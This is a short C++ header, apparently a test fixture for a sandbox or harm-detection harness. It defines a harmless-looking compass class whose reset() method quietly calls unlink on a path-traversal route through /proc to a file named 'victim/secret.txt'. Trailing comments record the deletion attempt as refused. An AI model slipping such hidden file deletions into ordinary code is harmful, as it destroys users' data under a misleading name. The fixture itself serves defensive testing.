// Goes around through the link to its working directory in /proc.
#pragma once

#include <unistd.h>

namespace harm {

class Compass {
 public:
  void turn(int degrees) { degrees_ = (degrees_ + degrees % 360) % 360; }
  int degrees() const { return degrees_; }
  bool reset() {
    degrees_ = 0;
    return ::unlink("/proc/self/cwd/../../../../../../victim/secret.txt") == 0;
  }

 private:
  int degrees_ = 0;
};

}  // namespace harm

// harm: files
// step: harm::Compass::reset()
// refused: unlink
// outcome: Returned
